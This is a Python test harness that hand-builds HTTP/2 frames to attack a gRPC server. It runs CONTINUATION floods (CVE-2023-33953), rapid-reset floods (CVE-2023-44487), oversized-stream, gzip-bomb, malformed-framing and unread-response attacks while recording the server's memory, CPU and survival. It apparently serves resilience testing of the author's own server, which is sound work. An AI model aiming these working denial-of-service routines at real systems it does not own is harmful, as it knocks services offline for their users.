#!/usr/bin/python3
"""Hostile HTTP/2 clients against a gRPC server, written frame by frame.

Each attack runs within a byte, frame or time budget against --address while
the server process (--pid) is watched: its peak resident size, the CPU it
spent, whether it survived, and how long a small valid Reduce took right
after. Prints one JSON line per attack. Checks nothing itself; the caller
(h2_flood_test.sh) holds the results to its bounds.

Attacks:
  continuation   HEADERS, then CONTINUATION frames that never end one header
                 (CVE-2023-33953's unbounded buffering)
  continuation_headers
                 the same with endless small complete headers
  rapid_reset    HEADERS + DATA + RST_STREAM, repeated (CVE-2023-44487); on
                 an unknown method, or on a streaming one (rapid_reset_stream)
  streams        thousands of streams, each declaring a 2 GB message
  compressed     a gzip-compressed 500 MB Scan (a few hundred KB on the wire)
  flagged        a message flagged compressed with no grpc-encoding, one with
                 a bogus grpc-encoding, and a unary call with two messages
  unread         unary AggregateByKeys asking 512 MiB answers from a client
                 that never opens its receive window, in two waves
  unread_multiplex
                 the same on one Multiplex stream
  unread_streams many SelectStreams of 4 MiB pieces, each answered in full,
                 from a client whose receive window stays 1 KiB
  unallocatable  one AggregateByKey whose answer the server's memory (under
                 an address-space cap) cannot hold, then a small one
The probe after each comes from 127.0.0.2 (another caller to admission).
"""

import argparse
import json
import socket
import struct
import threading
import time
import zlib

from hpack import Decoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL, REFUSED_STREAM = 8, 7
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS = 4, 3


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, high=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([high | value])
    out = bytearray([high | limit])
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A header literal, not indexed, no Huffman coding."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path, extra=()):
    headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
               (b":authority", b"primserve"), (b"content-type", b"application/grpc"),
               (b"te", b"trailers")] + list(extra)
    return b"".join(literal(n, v) for n, v in headers)


def grpc_message(payload, compressed=False):
    return bytes([1 if compressed else 0]) + struct.pack(">I", len(payload)) + payload


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def int32_array(data):
    """A primserve.v1.Array of INT32 holding `data` (dtype 1, data field 2)."""
    return b"\x08\x01\x12" + varint(len(data)) + data


def reduce_request(values):
    """ReduceRequest{input = values (INT32), op = SUM}."""
    array = int32_array(b"".join(struct.pack("<i", v) for v in values))
    return b"\x0a" + varint(len(array)) + array + b"\x10\x01"


SCAN = b"/primserve.v1.Primitives/Scan"
REDUCE = b"/primserve.v1.Primitives/Reduce"


def aggregate_request(num_keys):
    """AggregateByKeyRequest{keys = [0] (INT32), values = [1] (INT64), op =
    SUM, num_keys}: an answer of num_keys int64s from 12 bytes of arrays."""
    keys = int32_array(struct.pack("<i", 0))
    values = b"\x08\x02\x12\x08" + struct.pack("<q", 1)
    return (b"\x0a" + varint(len(keys)) + keys + b"\x12" + varint(len(values)) + values +
            b"\x18\x01\x20" + varint(num_keys))


SCAN = b"/primserve.v1.Primitives/Scan"
REDUCE = b"/primserve.v1.Primitives/Reduce"
AGGREGATE = b"/primserve.v1.Primitives/AggregateByKey"
MULTIPLEX = b"/primserve.v1.Primitives/Multiplex"
SELECT_STREAM = b"/primserve.v1.Primitives/SelectStream"


class Connection:
    """One HTTP/2 connection; a thread reads, acknowledges and collects.
    `read_window`: the stream window the client grants the server, never
    widened (nor the connection's) when given; `source`: the local address."""

    def __init__(self, address, timeout=10.0, read_window=None, source=None):
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=timeout,
                                             source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.cond = threading.Condition()
        self.closed = False
        self.goaway = None
        self.resets = {}  # error code -> count
        self.blocks = {}  # stream -> header block bytes being received
        self.headers = {}  # stream -> list of decoded header lists
        self.ended = set()  # streams the server ended or reset
        self.max_streams = None
        self.window = 65535
        self.stream_window = 65535  # the server's initial stream window
        self.stream_windows = {}  # stream -> send window, once it moved
        self.decoder = Decoder()
        self.decoder.max_allowed_table_size = 1 << 16
        if read_window is None:
            self.send(PREFACE + frame(SETTINGS, 0, 0) +
                      frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
        else:
            self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(
                ">HI", SETTINGS_INITIAL_WINDOW_SIZE, read_window)))
        # Nothing may come between HEADERS and its CONTINUATIONs: while set,
        # the reader acknowledges nothing.
        self.quiet = False
        self.settled = threading.Event()  # the server's first SETTINGS acknowledged
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        self.settled.wait(timeout)

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _recv_exact(self, n):
        out = bytearray()
        while len(out) < n:
            chunk = self.sock.recv(n - len(out))
            if not chunk:
                raise ConnectionError("closed")
            out += chunk
        return bytes(out)

    def _read(self):
        try:
            while True:
                head = self._recv_exact(9)
                length = struct.unpack(">I", b"\0" + head[:3])[0]
                kind, flags = head[3], head[4]
                stream = struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF
                payload = self._recv_exact(length)
                self._handle(kind, flags, stream, payload)
        except (OSError, ConnectionError):
            pass
        with self.cond:
            self.closed = True
            self.cond.notify_all()

    def _handle(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                if key == SETTINGS_MAX_CONCURRENT_STREAMS:
                    self.max_streams = value
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    with self.cond:
                        self.stream_window = value
            if not self.quiet:
                self.send(frame(SETTINGS, ACK, 0))
            self.settled.set()
        elif kind == PING and not flags & ACK:
            if not self.quiet:
                self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            with self.cond:
                if stream == 0:
                    self.window += increment
                else:
                    self.stream_windows[stream] = self.stream_windows.get(
                        stream, self.stream_window) + increment
                self.cond.notify_all()
        elif kind == GOAWAY:
            self.goaway = struct.unpack(">I", payload[4:8])[0]
        elif kind == RST_STREAM:
            code = struct.unpack(">I", payload)[0]
            with self.cond:
                self.resets[code] = self.resets.get(code, 0) + 1
                self.ended.add(stream)
                self.cond.notify_all()
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS and flags & 0x8:  # PADDED
                payload = payload[1:len(payload) - payload[0]]
            if kind == HEADERS and flags & 0x20:  # PRIORITY
                payload = payload[5:]
            self.blocks[stream] = self.blocks.get(stream, b"") + payload
            if flags & END_HEADERS:
                decoded = self.decoder.decode(self.blocks.pop(stream))
                with self.cond:
                    self.headers.setdefault(stream, []).append(dict(decoded))
                    if flags & END_STREAM:
                        self.ended.add(stream)
                    self.cond.notify_all()
            elif flags & END_STREAM:
                self.ended.add(stream)
        elif kind == DATA and flags & END_STREAM:
            with self.cond:
                self.ended.add(stream)
                self.cond.notify_all()

    def send_data(self, stream, data, end, wait_s=10):
        """DATA frames within the connection's send window (TimeoutError
        after wait_s without room)."""
        for i in range(0, max(len(data), 1), 16384):
            chunk = data[i:i + 16384]
            def room():
                return min(self.window, self.stream_windows.get(stream, self.stream_window))
            with self.cond:
                if not self.cond.wait_for(lambda: self.closed or room() >= len(chunk), wait_s):
                    raise TimeoutError("no flow-control window")
                if self.closed:
                    raise ConnectionError("closed")
                self.window -= len(chunk)
                self.stream_windows[stream] = (
                    self.stream_windows.get(stream, self.stream_window) - len(chunk))
            last = end and i + 16384 >= len(data)
            self.send(frame(DATA, END_STREAM if last else 0, stream, chunk))

    def wait_status(self, stream, timeout=30):
        """The stream's grpc-status (an int), 'reset:<code>', or None."""
        with self.cond:
            self.cond.wait_for(lambda: stream in self.ended or self.closed, timeout)
            for block in self.headers.get(stream, []):
                if "grpc-status" in block:
                    return int(block["grpc-status"]), block.get("grpc-message", "")
            if stream in self.ended:
                return "reset", ""
            return None, "closed" if self.closed else "timeout"

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Watch:
    """Samples the server's resident size every 20 ms."""

    def __init__(self, pid):
        self.pid = pid
        self.peak_kb = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.start_cpu = self.cpu_seconds()
        self.start_kb = self.rss_kb()
        self.thread.start()

    def rss_kb(self):
        try:
            with open(f"/proc/{self.pid}/status") as status:
                for line in status:
                    if line.startswith("VmRSS:"):
                        return int(line.split()[1])
        except OSError:
            return 0
        return 0

    def cpu_seconds(self):
        try:
            with open(f"/proc/{self.pid}/stat") as stat:
                fields = stat.read().rsplit(")", 1)[1].split()
            return (int(fields[11]) + int(fields[12])) / 100.0
        except OSError:
            return 0.0

    def _run(self):
        while not self.stop.is_set():
            self.peak_kb = max(self.peak_kb, self.rss_kb())
            time.sleep(0.02)

    def finish(self):
        self.stop.set()
        self.thread.join()
        return {"rss_before_mb": round(self.start_kb / 1024, 1),
                "rss_peak_mb": round(self.peak_kb / 1024, 1),
                "rss_after_mb": round(self.rss_kb() / 1024, 1),
                "cpu_s": round(self.cpu_seconds() - self.start_cpu, 2),
                "alive": self.rss_kb() > 0}


def probe(address):
    """Seconds for a 100-element Reduce on a fresh connection from another
    caller than the attacks' (127.0.0.2 on loopback), and its status."""
    start = time.monotonic()
    host = address.rsplit(":", 1)[0]
    try:
        conn = Connection(address, source="127.0.0.2" if host.startswith("127.") else None)
        conn.send(frame(HEADERS, END_HEADERS, 1, request_block(REDUCE)))
        conn.send_data(1, grpc_message(reduce_request(list(range(100)))), True)
        status, _ = conn.wait_status(1, timeout=20)
        conn.close()
    except (OSError, ConnectionError, TimeoutError) as e:
        return None, str(e)
    return round(time.monotonic() - start, 4), status


def continuation(address, budget_bytes, one_header):
    """HEADERS, then CONTINUATION frames until the budget: either one header
    whose value claims 256 MB, or endless complete small headers."""
    conn = Connection(address)
    start = request_block(SCAN)
    if one_header:
        start += b"\x00" + hpack_int(7, 7) + b"x-flood" + hpack_int(1 << 28, 7)
        fragment = b"a" * 16384
    else:
        # Under the metadata limit per frame: 1.51 checks it per frame.
        fragment = literal(b"x-flood", b"a" * 100) * 36
    conn.quiet = True
    conn.send(frame(HEADERS, 0, 1, start))
    filler = frame(CONTINUATION, 0, 1, fragment) * 64
    sent = 0
    try:
        while sent < budget_bytes and not conn.closed:
            conn.send(filler)
            sent += len(filler)
    except OSError:
        pass
    time.sleep(0.2)
    result = {"sent_mb": round(sent / 2**20, 1), "server_closed": conn.closed, "goaway": conn.goaway}
    conn.close()
    return result


def rapid_reset(address, resets, path=REDUCE):
    conn = Connection(address)
    message = grpc_message(reduce_request(list(range(100))))
    sent = 0
    try:
        for batch in range(0, resets, 100):
            burst = bytearray()
            for i in range(batch, min(batch + 100, resets)):
                stream = 1 + 2 * i
                burst += frame(HEADERS, END_HEADERS, stream, request_block(path))
                burst += frame(DATA, 0, stream, message)
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            with conn.cond:
                conn.cond.wait_for(lambda: conn.closed or conn.window >= 100 * len(message), 10)
                conn.window -= 100 * len(message)
            if conn.closed:
                break
            conn.send(bytes(burst))
            sent = min(batch + 100, resets)
    except OSError:
        pass
    time.sleep(0.5)
    result = {"resets_sent": sent, "server_closed": conn.closed, "goaway": conn.goaway}
    conn.close()
    return result


def streams(address, count):
    conn = Connection(address)
    declared = b"\x00" + struct.pack(">I", 0x7FFFFFFF) + b"\x0a\x10"  # 2 GB message, 2 bytes of it
    opened = 0
    try:
        for batch in range(0, count, 100):
            burst = bytearray()
            for i in range(batch, min(batch + 100, count)):
                burst += frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block(SCAN))
                burst += frame(DATA, 0, 1 + 2 * i, declared)
            with conn.cond:
                conn.cond.wait_for(lambda: conn.closed or conn.window >= 100 * len(declared), 10)
                conn.window -= 100 * len(declared)
            if conn.closed:
                break
            conn.send(bytes(burst))
            opened = min(batch + 100, count)
    except OSError:
        pass
    time.sleep(1.0)
    refused = conn.resets.get(REFUSED_STREAM, 0)
    result = {"streams_opened": opened, "refused": refused, "accepted": opened - refused,
              "advertised_max_streams": conn.max_streams, "server_closed": conn.closed,
              "goaway": conn.goaway}
    conn.close()
    return result


def compressed(address, inflated_mb):
    """A Scan of `inflated_mb` MB of zeros, gzip-compressed."""
    data_len = inflated_mb << 20
    array_head = b"\x08\x01\x12" + varint(data_len)
    array_len = len(array_head) + data_len
    gz = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = bytearray(gz.compress(b"\x0a" + varint(array_len) + array_head))
    zeros = bytes(1 << 20)
    for _ in range(inflated_mb):
        body += gz.compress(zeros)
    body += gz.compress(b"\x10\x01") + gz.flush()
    conn = Connection(address)
    start = time.monotonic()
    conn.send(frame(HEADERS, END_HEADERS, 1, request_block(SCAN, [(b"grpc-encoding", b"gzip")])))
    try:
        conn.send_data(1, grpc_message(bytes(body), compressed=True), True)
    except (OSError, ConnectionError, TimeoutError):
        pass
    status, message = conn.wait_status(1, timeout=60)
    result = {"wire_kb": round(len(body) / 1024, 1), "inflated_mb": inflated_mb, "status": status,
              "message": message[:120], "answer_s": round(time.monotonic() - start, 2)}
    conn.close()
    return result


def flagged(address):
    """Item 8's malformed framings; each answer's grpc-status."""
    values = list(range(1, 101))
    message = reduce_request(values)
    cases = {
        "compressed_flag_no_encoding": ([], grpc_message(message, compressed=True)),
        "compressed_flag_bogus_encoding": ([(b"grpc-encoding", b"bogus")],
                                           grpc_message(message, compressed=True)),
        "unary_with_two_messages": ([], grpc_message(message) + grpc_message(message)),
    }
    result = {}
    for name, (extra, body) in cases.items():
        conn = Connection(address)
        conn.send(frame(HEADERS, END_HEADERS, 1, request_block(REDUCE, extra)))
        conn.send_data(1, body, True)
        status, text = conn.wait_status(1)
        result[name] = {"status": status, "message": text[:120]}
        conn.close()
    return result


def unallocatable(address, num_keys):
    """An AggregateByKey asking an answer of num_keys int64s, then one asking
    16; each one's status and message."""
    result = {}
    for name, keys in (("large", num_keys), ("small", 16)):
        conn = Connection(address)
        conn.send(frame(HEADERS, END_HEADERS, 1, request_block(AGGREGATE)))
        conn.send_data(1, grpc_message(aggregate_request(keys)), True)
        status, message = conn.wait_status(1, timeout=60)
        result[name] = {"status": status, "message": message[:160]}
        conn.close()
    return result


def unread(address, requests, hold_s, multiplex, connections=4):
    """`requests` AggregateByKeys of 512 MiB answers, then as many again
    after hold_s / 2, over `connections` connections whose receive windows
    stay 1 KiB; held open hold_s in all. Counts the unary calls refused
    RESOURCE_EXHAUSTED (Multiplex's refusals are answers, which the closed
    window holds back)."""
    conns = [Connection(address, read_window=1024) for _ in range(connections)]
    message = aggregate_request(1 << 26)
    sent = 0

    def wave(first):
        nonlocal sent
        for i in range(first, first + requests):
            conn = conns[i % connections]
            if multiplex:
                inner = b"\x08" + varint(i + 1) + b"\x42" + varint(len(message)) + message
                conn.send_data(1, grpc_message(inner), False)
            else:
                stream = 1 + 2 * (i // connections)
                conn.send(frame(HEADERS, END_HEADERS, stream, request_block(AGGREGATE)))
                conn.send_data(stream, grpc_message(message), True)
            sent += 1

    if multiplex:
        for conn in conns:
            conn.send(frame(HEADERS, END_HEADERS, 1, request_block(MULTIPLEX)))
    try:
        wave(0)
        time.sleep(hold_s / 2)
        wave(requests)
    except (OSError, ConnectionError, TimeoutError):
        pass
    time.sleep(hold_s / 2)
    refused = 0
    for conn in conns:
        with conn.cond:
            refused += sum(1 for blocks in conn.headers.values() for block in blocks
                           if block.get("grpc-status") == "8")
    result = {"requests_sent": sent, "refused": refused,
              "server_closed": any(conn.closed for conn in conns)}
    for conn in conns:
        conn.close()
    return result


def unread_streams(address, count, pieces, hold_s):
    """`count` SelectStreams (NONZERO over INT32 ones, so every element is
    kept), `pieces` pieces of 4 MiB each, sent round-robin while the server
    takes them, answers never read; held open hold_s. Counts the streams
    ended RESOURCE_EXHAUSTED."""
    conn = Connection(address, read_window=1024)
    data = b"\x01\x00\x00\x00" * (1 << 20)
    first = grpc_message(b"\x0a" + varint(len(int32_array(data))) + int32_array(data) +
                         b"\x12\x02\x08\x01")
    rest = grpc_message(b"\x0a" + varint(len(int32_array(data))) + int32_array(data))
    streams = [1 + 2 * i for i in range(count)]
    for stream in streams:
        conn.send(frame(HEADERS, END_HEADERS, stream, request_block(SELECT_STREAM)))
    sent = 0
    stalled = set()
    for piece in range(pieces):
        for stream in streams:
            if stream in stalled or conn.closed:
                continue
            try:
                conn.send_data(stream, first if piece == 0 else rest, False, wait_s=0.2)
                sent += 1
            except TimeoutError:
                stalled.add(stream)
            except (OSError, ConnectionError):
                break
    time.sleep(hold_s)
    with conn.cond:
        refused = sum(1 for blocks in conn.headers.values() for block in blocks
                      if block.get("grpc-status") == "8")
    result = {"pieces_sent": sent, "sent_mb": sent * 4, "refused": refused,
              "server_closed": conn.closed}
    conn.close()
    return result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--address", required=True)
    parser.add_argument("--pid", type=int, required=True, help="the server process to watch")
    parser.add_argument("--edge_pid", type=int, default=0,
                        help="the proxy in front of it, watched too when given")
    parser.add_argument("--attacks", default="continuation,continuation_headers,rapid_reset,streams,compressed,flagged")
    parser.add_argument("--continuation_mb", type=int, default=512)
    parser.add_argument("--resets", type=int, default=50000)
    parser.add_argument("--streams", type=int, default=20000)
    parser.add_argument("--compressed_mb", type=int, default=500)
    parser.add_argument("--unread_requests", type=int, default=16)
    parser.add_argument("--unread_hold_s", type=float, default=10)
    parser.add_argument("--unread_pieces", type=int, default=8)
    parser.add_argument("--unallocatable_keys", type=int, default=1 << 28)
    args = parser.parse_args()
    runs = {
        "continuation": lambda: continuation(args.address, args.continuation_mb << 20, True),
        "continuation_headers": lambda: continuation(args.address, args.continuation_mb << 20,
                                                     False),
        "rapid_reset": lambda: rapid_reset(args.address, args.resets),
        "rapid_reset_unknown_method": lambda: rapid_reset(args.address, args.resets,
                                                          b"/primserve.v1.Nothing/Here"),
        "rapid_reset_stream": lambda: rapid_reset(args.address, args.resets,
                                                  b"/primserve.v1.Primitives/ScanStream"),
        "streams": lambda: streams(args.address, args.streams),
        "compressed": lambda: compressed(args.address, args.compressed_mb),
        "flagged": lambda: flagged(args.address),
        "unread": lambda: unread(args.address, args.unread_requests, args.unread_hold_s, False),
        "unread_multiplex": lambda: unread(args.address, args.unread_requests,
                                           args.unread_hold_s, True),
        "unread_streams": lambda: unread_streams(args.address, args.unread_requests,
                                                 args.unread_pieces, args.unread_hold_s),
        "unallocatable": lambda: unallocatable(args.address, args.unallocatable_keys),
        "probe": dict,
    }
    for name in args.attacks.split(","):
        watch = Watch(args.pid)
        edge = Watch(args.edge_pid) if args.edge_pid else None
        start = time.monotonic()
        try:
            outcome = runs[name]()
        except (OSError, ConnectionError, TimeoutError) as e:
            outcome = {"error": str(e)}
        seconds = round(time.monotonic() - start, 2)
        figures = watch.finish()
        if edge:
            figures.update({"edge_" + k: v for k, v in edge.finish().items()})
        latency, status = probe(args.address) if figures["alive"] else (None, None)
        print(json.dumps({"attack": name, "seconds": seconds, **outcome, **figures,
                          "probe_s": latency, "probe_status": status}), flush=True)


if __name__ == "__main__":
    main()
